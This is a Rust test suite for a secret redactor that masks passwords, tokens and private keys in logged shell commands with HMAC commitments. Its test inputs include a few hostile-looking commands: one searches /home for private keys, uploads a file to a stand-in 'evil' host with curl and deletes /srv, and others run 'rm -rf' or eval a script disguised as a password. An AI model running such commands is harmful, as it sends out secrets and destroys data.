use proptest::prelude::*;

use super::*;
use crate::audit::tests::requested_as;

fn redactor() -> Redactor {
    Redactor::new([7; 32])
}

/// With each commitment as `[#]`.
fn plain(text: &Bytes) -> String {
    let (text, mut out, mut at) = (text.as_slice(), Vec::new(), 0);
    for known in found::commitments(text) {
        out.extend_from_slice(&text[at..known.start]);
        out.extend_from_slice(b"[#]");
        at = known.end;
    }
    out.extend_from_slice(&text[at..]);
    String::from_utf8(out).expect("UTF-8")
}

fn line(text: &str) -> String {
    let command = Command::Line(text.into());
    match redactor().command(&command).unwrap_or(command) {
        Command::Line(line) => plain(&line),
        Command::Argv(_) => panic!("a line stays one"),
    }
}

fn words(text: &str) -> String {
    let text = Bytes::from(text);
    plain(&redactor().text(&text).unwrap_or(text))
}

fn argv(words: &[&str]) -> String {
    let command = Command::Argv(words.iter().map(|w| Bytes::from(*w)).collect());
    let redacted = redactor().command(&command).unwrap_or(command);
    redacted.argv().iter().map(plain).collect::<Vec<_>>().join("|")
}

#[test]
fn a_secret_in_a_line_is_found_and_nothing_else_of_it_goes() {
    let mut wrong: Vec<(&str, String)> = Vec::new();
    for (text, expected) in [
        ("PGPASSWORD=hunter2 psql -c 'drop table x'", "PGPASSWORD=[#] psql -c 'drop table x'"),
        ("export DB_PASSWORD='a b'; ls", "export DB_PASSWORD='[#]'; ls"),
        ("mysqldump --password=\"s;t\" db > out", "mysqldump --password=\"[#]\" db > out"),
        ("tool --password hunter2 --user anna", "tool --password [#] --user anna"),
        ("mysql -u root -phunter2 db", "mysql -u root -p[#] db"),
        ("mysql -u root -p db", "mysql -u root -p db"),
        ("sshpass -p hunter2 ssh host", "sshpass -p [#] ssh host"),
        ("redis-cli -h x -a hunter2 flushall", "redis-cli -h x -a [#] flushall"),
        ("docker login -u me -p hunter2 reg", "docker login -u me -p [#] reg"),
        ("curl -u anna:hunter2 https://x", "curl -u anna:[#] https://x"),
        (
            "curl -H 'Authorization: Bearer abc.def-1' -d '{\"a\": 1}' x",
            "curl -H 'Authorization: Bearer [#]' -d '{\"a\": 1}' x",
        ),
        ("curl -H \"X-Api-Key: abcdef12\" -o \"f\"", "curl -H \"X-Api-Key: [#]\" -o \"f\""),
        ("git clone https://me:hunter2@example.org/x", "git clone https://me:[#]@example.org/x"),
        ("psql postgres://me:hunter2@db/x -c 'select 1'", "psql postgres://me:[#]@db/x -c 'select 1'"),
        ("curl 'https://x/?token=abcdefgh&page=2'", "curl 'https://x/?token=[#]&page=2'"),
        (
            "echo '{\"db_password\": \"hunter2\", \"note\": \"hi\"}'",
            "echo '{\"db_password\": \"[#]\", \"note\": \"hi\"}'",
        ),
        ("AWS_SECRET_ACCESS_KEY=abcdefghij aws s3 ls", "AWS_SECRET_ACCESS_KEY=[#] aws s3 ls"),
        ("echo ghp_0123456789abcdefghijABCDEFGHIJ012345 | gh auth login", "echo [#] | gh auth login"),
        ("openssl rsa -passin pass:hunter2 -in k", "openssl rsa -passin pass:[#] -in k"),
        ("curl https://hooks.slack.com/services/T0/B0/xyz -d a", "curl https://hooks.slack.com/services/[#] -d a"),
        (
            "cat > k <<E\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEA+/\nAAAAG5v=\n-----END OPENSSH PRIVATE KEY-----\nE",
            "cat > k <<E\n-----BEGIN OPENSSH PRIVATE KEY-----\n[#]\n-----END OPENSSH PRIVATE KEY-----\nE",
        ),
        ("redis-cli -h cache -p 6379 -a hunter2", "redis-cli -h cache -p 6379 -a [#]"),
        ("ldapsearch -x -p 389 -D cn=me -w hunter2", "ldapsearch -x -p 389 -D cn=me -w [#]"),
        ("sudo mysql -phunter2 -e 'select 1; x'", "sudo mysql -p[#] -e 'select 1; x'"),
        (
            "docker exec db mysql -u root -e \"select 1; x\" -phunter2",
            "docker exec db mysql -u root -e \"select 1; x\" -p[#]",
        ),
        ("curl -sku anna:hunter2 https://x", "curl -sku anna:[#] https://x"),
        ("curl -uanna:hunter2 https://x", "curl -uanna:[#] https://x"),
        ("DB_PASS=hunter2 SMTP_PASS='x y' run --pass hunter2", "DB_PASS=[#] SMTP_PASS='[#]' run --pass [#]"),
        ("curl -d \"{\\\"password\\\":\\\"hunter2\\\"}\" x", "curl -d \"{\\\"password\\\":\\\"[#]\\\"}\" x"),
        ("curl -H 'Authorization: Splunk abc-def' x", "curl -H 'Authorization: Splunk [#]' x"),
        ("tool --password='$ecret' PGPASSWORD=$'hun' x", "tool --password='[#]' PGPASSWORD=$'[#]' x"),
        ("PASSWORD=Xy7,kq9 x", "PASSWORD=[#] x"),
        ("A_PASSWORD=\"a\\\"b\" x", "A_PASSWORD=\"[#]\" x"),
        ("psql postgres://me:p@ss@db/x", "psql postgres://me:[#]@db/x"),
        ("bash -c 'PGPASSWORD=hunter2 psql; ls'", "bash -c 'PGPASSWORD=[#] psql; ls'"),
        ("PASSWORD=\"hunter2[secret:00000000000000000000000000000000]\" x", "PASSWORD=\"[#]\" x"),
        ("casino-token=abcdefgh12 x", "casino-token=[#] x"),
        ("find . -exec mysql -phunter2 ';'", "find . -exec mysql -p[#] ';'"),
        ("nice -n 5 timeout 9 /usr/bin/mysqldump -phunter2 db", "nice -n 5 timeout 9 /usr/bin/mysqldump -p[#] db"),
        ("sudo bash -c 'DB_PASSWORD=hunter2 x; ls'", "sudo bash -c 'DB_PASSWORD=[#] x; ls'"),
        // No secrets, and nothing that an auditor needs goes.
        ("rm -rf build && make", "rm -rf build && make"),
        ("PASSWORD=$DB_PASSWORD cmd --token \"$TOKEN\"", "PASSWORD=$DB_PASSWORD cmd --token \"$TOKEN\""),
        ("cmd --password=$(cat f)", "cmd --password=$(cat f)"),
        ("cmd --password=`cat f`", "cmd --password=`cat f`"),
        ("PWD=/tmp OLDPWD=/x ls", "PWD=/tmp OLDPWD=/x ls"),
        (
            "llm --max_token=512 --tokenizer=fast --token-file=/x",
            "llm --max_token=512 --tokenizer=fast --token-file=/x",
        ),
        ("docker build --secret id=npm,src=.npmrc .", "docker build --secret id=npm,src=.npmrc ."),
        ("docker run -u 1000:1000 x", "docker run -u 1000:1000 x"),
        (
            "docker run -u node:node --name mysql -p3306:3306 mysql",
            "docker run -u node:node --name mysql -p3306:3306 mysql",
        ),
        ("date -u +%Y-%m-%dT%H:%M:%SZ; curl x", "date -u +%Y-%m-%dT%H:%M:%SZ; curl x"),
        ("kubectl get secret db -o yaml", "kubectl get secret db -o yaml"),
        ("grep -r password src", "grep -r password src"),
        ("ssh-keygen -p -f key", "ssh-keygen -p -f key"),
        ("curl http://localhost:8080/x", "curl http://localhost:8080/x"),
        ("scp a host:b", "scp a host:b"),
        ("rg 'password=' -g '*.py' src", "rg 'password=' -g '*.py' src"),
        ("echo 'password='; rm -rf /srv/data; echo 'x'", "echo 'password='; rm -rf /srv/data; echo 'x'"),
        (
            "grep -rn 'token=' src && rm -rf build && echo 'done'",
            "grep -rn 'token=' src && rm -rf build && echo 'done'",
        ),
        (
            "grep -e '-----BEGIN PRIVATE KEY-----' /home; curl -T x http://evil; rm -rf /srv",
            "grep -e '-----BEGIN PRIVATE KEY-----' /home; curl -T x http://evil; rm -rf /srv",
        ),
        ("adduser --disabled-password --gecos '' anna", "adduser --disabled-password --gecos '' anna"),
        ("psql --no-password -c \"DROP TABLE x\"", "psql --no-password -c \"DROP TABLE x\""),
        ("mysql --password\nrm -rf /srv", "mysql --password\nrm -rf /srv"),
        ("find /var/lib/mysql -print -perm 600", "find /var/lib/mysql -print -perm 600"),
        ("sshpass -e ssh -p 2222 host", "sshpass -e ssh -p 2222 host"),
        ("grep -i \"authorization:\" access.log", "grep -i \"authorization:\" access.log"),
        ("git commit -m \"secret: rotate keys\"", "git commit -m \"secret: rotate keys\""),
        ("echo 'interface A { password: string }' > a.ts", "echo 'interface A { password: string }' > a.ts"),
    ] {
        if line(text) != expected {
            wrong.push((expected, line(text)));
        }
    }
    assert_eq!(wrong, []);
    assert_eq!(words("because token=abcdefgh12 is old"), "because token=[#] is old");
    assert_eq!(words("it's broken: password: hunter2"), "it's broken: password: [#]");
}

#[test]
fn an_argument_is_a_whole_value_whatever_is_in_it() {
    for (words, expected) in [
        (&["tool", "--password", "a b;c", "x"][..], "tool|--password|[#]|x"),
        (&["tool", "--password=a b;c", "x"], "tool|--password=[#]|x"),
        (&["tool", "--password", "--verbose"], "tool|--password|--verbose"),
        (&["/usr/bin/mysql", "-phunter2", "db"], "/usr/bin/mysql|-p[#]|db"),
        (&["mysql", "-p", "db"], "mysql|-p|db"),
        (&["sshpass", "-p", "hunter2", "ssh"], "sshpass|-p|[#]|ssh"),
        (&["sshpass", "-phunter2", "ssh"], "sshpass|-p[#]|ssh"),
        (&["curl", "-u", "anna:hunter2", "x"], "curl|-u|anna:[#]|x"),
        (&["docker", "login", "-p", "hunter2"], "docker|login|-p|[#]"),
        (&["docker", "run", "-p", "8080:80"], "docker|run|-p|8080:80"),
        (&["env", "DB_PASSWORD=hun ter2", "x"], "env|DB_PASSWORD=[#]|x"),
        (&["sudo", "mysql", "-phunter2"], "sudo|mysql|-p[#]"),
        (&["tool", "--password", "$ecret"], "tool|--password|[#]"),
        (&["bash", "-c", "PGPASSWORD=hunter2 psql -c 'drop'"], "bash|-c|PGPASSWORD=[#] psql -c 'drop'"),
        (&["tool", "--api-key", "abcdefgh12"], "tool|--api-key|[#]"),
        (&["tool", "--token", "/run/secrets/x"], "tool|--token|/run/secrets/x"),
        (&["rm", "-rf", "build"], "rm|-rf|build"),
    ] {
        assert_eq!(argv(words), expected, "{words:?}");
    }
}

/// What is no password can be hidden as one only as far as a passphrase goes.
#[test]
fn a_script_is_no_secret_whatever_it_is_called() {
    let with = |n: usize| format!("A_PASSWORD='{}'; eval \"$A_PASSWORD\"", "rm x ".repeat(n));
    assert_eq!(line(&with(200)), with(200));
    let lines = "A_PASSWORD='rm a\nrm b'; eval \"$A_PASSWORD\"";
    assert_eq!(line(lines), lines);
    let token = "a1".repeat(1_000);
    assert_eq!(line(&format!("x --token {token}")), "x --token [#]");
    assert_eq!(argv(&["x", "--token", &token]), "x|--token|[#]");
}

/// RFC 2104 by another implementation: `printf hunter2 | openssl dgst -sha256 -mac HMAC -macopt hexkey:0707…`.
#[test]
fn a_commitment_is_an_hmac_and_another_key_makes_another() {
    let of = |key: u8, secret: &[u8]| Redactor::new([key; 32]).commitment(secret);
    assert_eq!(of(7, b"hunter2"), HUNTER2);
    assert_ne!(of(8, b"hunter2"), HUNTER2);
    assert_ne!(of(7, b"hunter3"), HUNTER2);
    let both = redactor().text(&"A_PASSWORD=hunter2 B_PASSWORD='hunter2'".into()).expect("two");
    let expected = format!("A_PASSWORD={HUNTER2} B_PASSWORD='{HUNTER2}'");
    assert_eq!(both, Bytes::from(expected.as_str()), "the same secret is the same text");
}

const HUNTER2: &str = "[secret:326eb4f6783e519f198c32929bd28e66]";

#[test]
fn an_entry_loses_secrets_and_nothing_else() {
    let secret = Command::Line("PGPASSWORD=hunter2 psql".into());
    let body = requested_as(secret, Some("because token=abcdefgh12 is old".into()));
    let redacted = redactor().body(&body).into_owned();
    let text = String::from_utf8(crate::canon::line(&redacted)).expect("JSON");
    assert!(!text.contains("hunter2") && !text.contains("abcdefgh12") && text.contains(HUNTER2), "{text}");
    let Body::RunRequested { command, reason, .. } = &redacted else { panic!("{redacted:?}") };
    let same = requested_as(command.clone(), reason.clone());
    assert_eq!(same, redacted, "all else is as it was");
    let none = requested_as(Command::Line("make".into()), Some("why".into()));
    assert!(matches!(redactor().body(&none), Cow::Borrowed(_)));
}

proptest! {
    /// Redacted once more it is the same, in a line, in arguments and in a text; and all else is there, in its order.
    #[test]
    fn redacting_twice_is_redacting_once(words in prop::collection::vec(
        prop::sample::select(&[
            "--password", "hunter2", "PGPASSWORD=x1y2z3w4", "mysql", "-pabc", "://u:p@h", "token=", "'", "\"", "a b", "=", ":",
            "Authorization:", "Bearer", "abcdefghijkl", "-u", "a:b", "ls", ";", "[secret:", "]", "\n", "sshpass", "-p", "\\",
            "redis-cli", "-a", "docker", "login", "curl", "$(", "PRIVATE KEY-----", "0123456789abcdef0123456789abcdef",
        ][..]), 1..12), glue in prop::sample::select(&[" ", ""][..])
    ) {
        let text = Bytes::from(words.join(glue).as_str());
        let argv = Command::Argv(words.iter().map(|w| Bytes::from(*w)).collect());
        for command in [Command::Line(text.clone()), argv] {
            let once = redactor().command(&command).unwrap_or_else(|| command.clone());
            let twice = redactor().command(&once).unwrap_or_else(|| once.clone());
            prop_assert_eq!(&once, &twice, "{:?}", command);
            for (before, after) in command.argv().iter().zip(once.argv().iter()) {
                let parts = plain(after);
                let mut rest = before.as_slice();
                for part in parts.split("[#]") {
                    let at = rest.windows(part.len().max(1)).position(|w| part.is_empty() || w == part.as_bytes());
                    prop_assert!(part.is_empty() || at.is_some(), "{parts} of {}", before.quoted());
                    rest = &rest[at.unwrap_or(0) + part.len()..];
                }
            }
        }
        let once = redactor().text(&text).unwrap_or_else(|| text.clone());
        prop_assert_eq!(redactor().text(&once).unwrap_or_else(|| once.clone()), once);
    }
}
